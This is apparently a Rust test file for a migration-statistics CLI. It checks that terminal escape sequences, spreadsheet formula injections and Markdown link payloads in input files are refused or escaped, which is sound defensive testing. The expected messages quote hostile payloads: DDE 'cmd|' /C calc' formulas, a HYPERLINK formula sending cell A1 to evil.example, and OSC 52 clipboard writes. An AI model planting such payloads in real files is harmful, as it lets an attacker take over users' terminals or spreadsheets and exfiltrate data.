//! Hostile input, the output side: terminal, spreadsheet-formula and Markdown injection. Every file
//! in `tests/fixtures/hostile/injection-*` goes through the binary in every format: no ESC, BEL or
//! C1 control byte reaches stdout or stderr, a refused file writes nothing to stdout and says where
//! and why, and what is shown of hostile text is escaped and short.

use crate::common::{fixture, migstats};
use std::path::Path;

/// Bytes that must never be written: ESC, BEL, C1 CSI / OSC / ST (UTF-8 `c2 9b` etc.), and
/// CR (but in CSV, where a note's line break is written as read, inside a quoted field).
fn assert_no_control_bytes(what: &str, bytes: &[u8]) {
    assert_no_controls(what, bytes, false);
}

fn assert_no_controls(what: &str, bytes: &[u8], csv: bool) {
    let text = String::from_utf8_lossy(bytes);
    assert!(!bytes.contains(&0x1b), "{what}: ESC in {text:?}");
    assert!(!bytes.contains(&0x07), "{what}: BEL in {text:?}");
    assert!(
        !text
            .chars()
            .any(|c| ('\u{80}'..='\u{9f}').contains(&c) || (c == '\r' && !csv)),
        "{what}: C1 control or CR in {text:?}"
    );
}

/// Each injection fixture: the exit code and, for a refusal, the located start of the message.
/// Exit 0 only where the text is harmless once rendered: Markdown link syntax is plain words,
/// and a CR inside a note is a line break (as in a CR-ended file), shown as one.
const CASES: &[(&str, i32, &str)] = &[
    (
        "injection-esc.csv",
        2,
        "injection-esc.csv:2:3: country holds the control character \\u{1b} at character 5: 'Iraq\\u{1b}[2J\\u{1b}[H' (remove it",
    ),
    (
        "injection-osc52.csv",
        2,
        "injection-osc52.csv:2:12: note holds the control character \\u{1b} at character 8: 'Context\\u{1b}]52;c;",
    ),
    (
        "injection-osc8.csv",
        2,
        "injection-osc8.csv:2:11: source holds the control character \\u{1b} at character 1: '\\u{1b}]8;;https://evil.example/\\u{1b}\\Home Office",
    ),
    (
        "injection-osc0.csv",
        2,
        "injection-osc0.csv:2:3: country holds the control character \\u{1b} at character 1: '\\u{1b}]0;pwned\\u{7}Iraq'",
    ),
    (
        "injection-c1-csi.csv",
        2,
        "injection-c1-csi.csv:2:12: note holds the control character \\u{9b} at character 5: 'red \\u{9b}31m text'",
    ),
    (
        "injection-bidi.csv",
        2,
        "injection-bidi.csv:2:3: country holds the control character \\u{202e} at character 1: '\\u{202e}qarI'",
    ),
    ("injection-lone-cr.csv", 0, ""),
    (
        "injection-formula-country.csv",
        2,
        "injection-formula-country.csv:2:3: country '=HYPERLINK(\"https://evil.example/?\"&A1,\"Iraq\")' begins with '=' (a spreadsheet opening the CSV output would run it as a formula; no country, nationality or source begins so)",
    ),
    (
        "injection-formula-source.csv",
        2,
        "injection-formula-source.csv:2:11: source '+cmd|' /C calc'!A0' begins with '+' (",
    ),
    (
        "injection-formula-note.csv",
        2,
        "injection-formula-note.csv:2:12: note '-2+3+cmd|' /C calc'!A0' begins with '-' (a spreadsheet opening the CSV output would run it as a formula; reword it, e.g. 'Up 14%…' rather than '+14%…')",
    ),
    (
        "injection-formula-at.csv",
        2,
        "injection-formula-at.csv:2:12: note '@SUM(1+1)*cmd|' /C calc'!A0' begins with '@'",
    ),
    ("injection-markdown.csv", 0, ""),
    (
        "injection-sb01-notes.csv",
        2,
        "injection-sb01-notes.csv:3:5: Notes holds the control character \\u{1b} at character 1: '\\u{1b}]0;pwned\\u{7}'",
    ),
    (
        "injection-sb01-formula-note.csv",
        2,
        "injection-sb01-formula-note.csv:3:5: Notes '=HYPERLINK(\"https://evil.example\")' begins with '='",
    ),
    (
        "injection-sb01-date.csv",
        2,
        "injection-sb01-date.csv:3:1: '\\u{1b}[2J\\u{1b}]52;c;ZXZpbA==\\u{7}2025-01-02' is not a date",
    ),
    (
        "injection-sb01-unclosed-quote.csv",
        2,
        "injection-sb01-unclosed-quote.csv:3:1: quoted field is never closed: it runs from here to the end of the file (add the closing '\"'",
    ),
    (
        "injection-detailed-nationality.csv",
        2,
        "injection-detailed-nationality.csv:4:4: nationality holds the control character \\u{1b} at character 1: '\\u{1b}[31mIraq\\u{1b}[0m' (remove it: control characters can take over a terminal",
    ),
    (
        "injection-detailed-formula.csv",
        2,
        "injection-detailed-formula.csv:4:4: nationality '@SUM(1+1)*cmd|' /C calc'!A0' begins with '@'",
    ),
    (
        "injection-zero-width.csv",
        2,
        "injection-zero-width.csv:3:3: country holds the invisible character \\u{200b} at character 4: 'Ira\\u{200b}q' (remove it: an invisible character makes text that reads the same count as different",
    ),
    (
        "injection-tag-character.csv",
        2,
        "injection-tag-character.csv:2:3: country holds the invisible character \\u{e0041} at character 5: 'Iraq\\u{e0041}'",
    ),
    (
        "injection-detailed-zero-width.csv",
        2,
        "injection-detailed-zero-width.csv:4:4: nationality holds the invisible character \\u{200b} at character 4: 'Ira\\u{200b}q' (remove it",
    ),
    (
        "injection-detailed-quarter.csv",
        2,
        "injection-detailed-quarter.csv:3:2: quarter '\\u{1b}]52;c;AAAA",
    ),
];

/// Runs from the fixtures directory so messages name the file as the table does.
fn run_in_hostile(args: &[&str]) -> std::process::Output {
    migstats()
        .current_dir(fixture("hostile"))
        .args(args)
        .output()
        .unwrap()
}

#[test]
fn every_injection_fixture_is_listed_and_none_writes_a_control_byte() {
    let mut listed: Vec<&str> = CASES.iter().map(|c| c.0).collect();
    listed.sort_unstable();
    let mut found: Vec<String> = std::fs::read_dir(fixture("hostile"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("injection-"))
        .collect();
    found.sort_unstable();
    assert_eq!(
        listed, found,
        "a fixture without a case, or a case without a fixture"
    );

    for (file, code, message) in CASES {
        for format in ["table", "json", "csv", "markdown"] {
            for command in ["summary", "figures", "sources"] {
                let out = run_in_hostile(&["--format", format, "--data", file, command]);
                let what = format!("{file} --format {format} {command}");
                assert_eq!(out.status.code(), Some(*code), "{what}: {out:?}");
                assert_no_controls(&what, &out.stdout, format == "csv");
                assert_no_control_bytes(&what, &out.stderr);
                let err = String::from_utf8(out.stderr).unwrap();
                if *code == 2 {
                    assert!(out.stdout.is_empty(), "{what}: wrote to stdout");
                    let first = err.lines().next().unwrap_or_default();
                    assert!(
                        first.starts_with(&format!("migstats: error: {message}")),
                        "{what}:\n{first}\nexpected to start\nmigstats: error: {message}"
                    );
                    // Nothing echoed runs long, whatever the cell held.
                    assert!(
                        err.lines().all(|l| l.chars().count() < 400),
                        "{what}: {err}"
                    );
                } else {
                    assert!(err.is_empty(), "{what}: {err}");
                }
            }
        }
    }
}

#[test]
fn markdown_link_and_image_syntax_stays_text() {
    let out = run_in_hostile(&[
        "--format",
        "markdown",
        "--data",
        "injection-markdown.csv",
        "sources",
    ]);
    assert!(out.status.success());
    let md = String::from_utf8(out.stdout).unwrap();
    assert!(
        md.contains(
            "See \\!\\[x\\](https\\://evil.example/pixel.png) and \\[click\\](javascript:alert(1))"
        ),
        "{md}"
    );
    assert!(!md.contains("![x]("), "{md}");
    assert!(!md.contains("[click]("), "{md}");
    // A CR inside a note is a line break, not the end of the Markdown row or a carriage return.
    let out = run_in_hostile(&[
        "--format",
        "markdown",
        "--data",
        "injection-lone-cr.csv",
        "sources",
    ]);
    let md = String::from_utf8(out.stdout).unwrap();
    assert!(
        md.contains("| iraq-2025; year ending March 2025 | Home Office | first; second |\n"),
        "{md}"
    );
    let out = run_in_hostile(&["--data", "injection-lone-cr.csv", "sources"]);
    let table = String::from_utf8(out.stdout).unwrap();
    assert!(
        table.contains("Home Office   first") && table.contains("   second"),
        "{table}"
    );
    // JSON stays exact: the note as written, escaped only by JSON's own rules.
    let out = run_in_hostile(&[
        "--format",
        "json",
        "--data",
        "injection-markdown.csv",
        "sources",
    ]);
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        doc["rows"][0]["note"],
        "See ![x](https://evil.example/pixel.png) and [click](javascript:alert(1))"
    );
}

/// A valid figures file copied under a hostile name in a fresh directory.
fn hostile_name(dir: &Path, name: &str) -> String {
    let path = dir.join(name);
    std::fs::copy(fixture("consistent_claim.csv"), &path).unwrap();
    name.to_string()
}

#[test]
fn file_names_are_escaped_in_footers_tables_csv_and_errors() {
    let dir = tempfile::tempdir().unwrap();
    let name = hostile_name(
        dir.path(),
        "evil\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}1m\u{202e}.csv",
    );
    let shown = "evil\\u{1b}]0;pwned\\u{7}\\u{1b}[2J\\u{9b}1m\\u{202e}.csv";
    let run = |args: &[&str]| {
        let out = migstats()
            .current_dir(dir.path())
            .args(args)
            .output()
            .unwrap();
        assert_no_control_bytes(&format!("{args:?}"), &out.stdout);
        assert_no_control_bytes(&format!("{args:?}"), &out.stderr);
        out
    };
    // The footer of every table command names the file, escaped.
    for command in ["summary", "changes", "sources"] {
        let out = run(&["--data", &name, command]);
        assert!(
            matches!(out.status.code(), Some(0 | 1)),
            "{command}: {out:?}"
        );
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(
            text.contains(&format!("Dataset: Figures read from {shown}")),
            "{command}:\n{text}"
        );
    }
    let out = run(&["--format", "markdown", "--data", &name, "summary"]);
    let md = String::from_utf8(out.stdout).unwrap();
    assert!(
        md.contains("- Dataset: Figures read from evil\\u{1b}\\]0;pwned"),
        "{md}"
    );
    // validate shows the name in a table cell, and in CSV (a spreadsheet sees no control).
    let out = run(&["validate", &name]);
    assert!(out.status.success(), "{out:?}");
    let table = String::from_utf8(out.stdout).unwrap();
    assert!(table.contains("\\u{1b}"), "{table}");
    let out = run(&["--format", "csv", "validate", &name]);
    let csv = String::from_utf8(out.stdout).unwrap();
    assert!(csv.contains(&format!("{shown},")), "{csv}");
    // JSON keeps the name exact, in JSON's own escapes (C1 and bidi controls included).
    let out = run(&["--format", "json", "--data", &name, "sources"]);
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["dataset"]["files"][0], name.as_str());
    // A file that cannot be read: the error names it escaped.
    let out = run(&["--data", "gone\u{1b}]52;c;ZXZpbA==\u{7}.csv", "summary"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(out.stdout.is_empty());
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(
        err.starts_with("migstats: error: gone\\u{1b}]52;c;ZXZpbA==\\u{7}.csv: cannot read:"),
        "{err}"
    );
}

#[test]
fn a_file_name_that_starts_a_formula_is_text_in_csv_output() {
    let dir = tempfile::tempdir().unwrap();
    let name = hostile_name(dir.path(), "=HYPERLINK(1).csv");
    let out = migstats()
        .current_dir(dir.path())
        .args(["--format", "csv", "validate", &name])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let csv = String::from_utf8(out.stdout).unwrap();
    assert_eq!(csv, "file,figures,status\n'=HYPERLINK(1).csv,2,valid\n");
}

#[test]
fn wrapping_never_splits_an_escape() {
    let dir = tempfile::tempdir().unwrap();
    let name = hostile_name(
        dir.path(),
        "a-long-name\u{1b}[2J-for-a-narrow\u{9b}31m-column\u{202e}-of\u{7}-text.csv",
    );
    for columns in ["24", "30", "41", "80"] {
        let out = migstats()
            .current_dir(dir.path())
            .env("COLUMNS", columns)
            .args(["validate", &name])
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        let text = String::from_utf8(out.stdout).unwrap();
        // Each escape whole on one line, as many as the name holds, in the table and the notes.
        for escape in ["\\u{1b}", "\\u{9b}", "\\u{202e}", "\\u{7}"] {
            assert_eq!(
                text.matches(escape).count(),
                1,
                "COLUMNS={columns}:\n{text}"
            );
        }
        for line in text.lines() {
            let opened = line.matches("\\u{").count();
            let whole = line.matches("\\u{1b}").count()
                + line.matches("\\u{9b}").count()
                + line.matches("\\u{202e}").count()
                + line.matches("\\u{7}").count();
            assert_eq!(opened, whole, "COLUMNS={columns}: split escape in {line:?}");
        }
    }
}

#[test]
fn an_echoed_cell_is_cut_to_eighty_characters() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("long.csv");
    let country = format!("{}\u{1b}[2J", "x".repeat(100_000));
    std::fs::write(
        &path,
        format!(
            "id,metric,country,period_start,period_end,value,unit,qualifier,rounded_to,source\n\
             a,small_boat_arrivals,\"{country}\",2024-01-01,2024-12-31,1,people,exact,1,Home Office\n"
        ),
    )
    .unwrap();
    let out = migstats()
        .current_dir(dir.path())
        .args(["--data", "long.csv", "summary"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert_no_control_bytes("long", &out.stderr);
    let err = String::from_utf8(out.stderr).unwrap();
    assert_eq!(
        err,
        format!(
            "migstats: error: long.csv:2:3: country holds the control character \\u{{1b}} at character 100001: '{}…' (remove it: control characters can take over a terminal, and no real value has one)\n",
            "x".repeat(80)
        )
    );
}

#[test]
fn an_unclosed_quote_in_a_large_sb01_csv_is_located_not_echoed() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("sb01.csv");
    let mut text = String::from(
        "Date,Migrants arrived,Boats arrived,Boats arrived - involved in uncontrolled landings,Notes\n\
         2025-01-01T00:00:00,10,1,0,\n\
         2025-01-02T00:00:00,20,2,0,\"Revised\n",
    );
    text.push_str(&"\u{1b}[2J2025-01-03T00:00:00,5,1,0,\n".repeat(100_000));
    std::fs::write(&path, text).unwrap();
    let out = migstats()
        .current_dir(dir.path())
        .args(["--data", "sb01.csv", "summary"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(out.stdout.is_empty());
    assert_eq!(
        String::from_utf8(out.stderr).unwrap(),
        "migstats: error: sb01.csv:3:5: quoted field is never closed: it runs from here to the end of the file (add the closing '\"'; a '\"' inside a quoted field is written '\"\"')\n"
    );
}

#[test]
fn arguments_quoted_back_by_usage_errors_are_escaped() {
    let out = migstats()
        .args(["--as-of", "\u{9b}31m\u{1b}]0;pwned\u{7}", "summary"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(out.stdout.is_empty());
    assert_no_control_bytes("--as-of", &out.stderr);
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.starts_with("migstats: error: "), "{err}");
    // clap drops ESC sequences from what it quotes; a C1 CSI it keeps, and it is escaped.
    assert!(err.contains("'\\u{9b}31m"), "{err}");
}

#[test]
fn workbook_cells_are_refused_like_csv_fields() {
    let dir = tempfile::tempdir().unwrap();
    // SB_01 as XLSX with an OSC 0 sequence in Notes.
    let sb01 = dir.path().join("sb01.xlsx");
    let mut book = rust_xlsxwriter::Workbook::new();
    let ws = book.add_worksheet();
    ws.set_name("SB_01").unwrap();
    let header = [
        "Date",
        "Migrants arrived",
        "Boats arrived",
        "Boats arrived - involved in uncontrolled landings",
        "Notes",
    ];
    for (c, h) in header.iter().enumerate() {
        ws.write_string(0, c as u16, *h).unwrap();
    }
    for (r, (date, note)) in [("2025-01-01", ""), ("2025-01-02", "\u{1b}]0;pwned\u{7}")]
        .iter()
        .enumerate()
    {
        let r = r as u32 + 1;
        ws.write_string(r, 0, *date).unwrap();
        ws.write_number(r, 1, 10.0).unwrap();
        ws.write_number(r, 2, 1.0).unwrap();
        ws.write_number(r, 3, 0.0).unwrap();
        ws.write_string(r, 4, *note).unwrap();
    }
    book.save(&sb01).unwrap();
    // A detailed dataset (Irr_D01 layout) with a formula for a nationality.
    let irr = dir.path().join("irr.xlsx");
    let mut book = rust_xlsxwriter::Workbook::new();
    let ws = book.add_worksheet();
    ws.set_name("Data_IER_D01").unwrap();
    ws.write_string(0, 0, "Irr_D01: test").unwrap();
    let header = [
        "Year",
        "Quarter",
        "Method of entry",
        "Nationality",
        "Region",
        "Sex",
        "Age Group",
        "Number of detections",
    ];
    for (c, h) in header.iter().enumerate() {
        ws.write_string(1, c as u16, *h).unwrap();
    }
    let row = [
        "2024",
        "2024 Q1",
        "Small boat arrivals",
        "=HYPERLINK(\"https://evil.example\")",
        "Middle East",
        "Male",
        "18 to 24",
    ];
    for (c, v) in row.iter().enumerate() {
        ws.write_string(2, c as u16, *v).unwrap();
    }
    ws.write_number(2, 7, 100.0).unwrap();
    book.save(&irr).unwrap();

    for (file, message) in [
        (
            "sb01.xlsx",
            "migstats: error: sb01.xlsx [SB_01]:3:5: Notes holds the control character \\u{1b} at character 1: '\\u{1b}]0;pwned\\u{7}'",
        ),
        (
            "irr.xlsx",
            "migstats: error: irr.xlsx [Data_IER_D01]:3:4: nationality '=HYPERLINK(\"https://evil.example\")' begins with '='",
        ),
    ] {
        let out = migstats()
            .current_dir(dir.path())
            .args(["--data", file, "summary"])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{file}: {out:?}");
        assert!(out.stdout.is_empty());
        assert_no_control_bytes(file, &out.stderr);
        let err = String::from_utf8(out.stderr).unwrap();
        assert!(
            err.starts_with(message),
            "{file}:\n{err}\nexpected\n{message}"
        );
    }
}

#[test]
fn a_sheet_name_holding_line_breaks_is_refused_before_any_output() {
    // `SB_01` then NEL, CR, LF: trimmed, it would be taken for the daily sheet and its name
    // written raw into `sources --format csv`.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("sheet-name.xlsx");
    let mut book = rust_xlsxwriter::Workbook::new();
    let ws = book.add_worksheet();
    ws.set_name("SB_01\u{85}\r\n").unwrap();
    for (col, head) in ["Date", "Migrants arrived", "Boats arrived"]
        .iter()
        .enumerate()
    {
        ws.write_string(0, u16::try_from(col).unwrap(), *head)
            .unwrap();
    }
    ws.write_string(1, 0, "2025-01-01").unwrap();
    ws.write_number(1, 1, 10).unwrap();
    ws.write_number(1, 2, 1).unwrap();
    book.save(&path).unwrap();
    for format in ["csv", "table", "markdown", "json"] {
        let out = migstats()
            .arg("--data")
            .arg(&path)
            .args(["sources", "--format", format])
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{format}: {stderr}");
        assert!(out.stdout.is_empty(), "{format}");
        assert!(
            stderr.contains(
                "sheet-name.xlsx: sheet 1 is named 'SB_01\\u{85}\\u{d}\\u{a}', which holds the control character \\u{85} (rename the sheet"
            ),
            "{stderr}"
        );
        assert_no_control_bytes(format, &out.stderr);
        assert_eq!(stderr.lines().count(), 1, "{stderr}");
    }
}
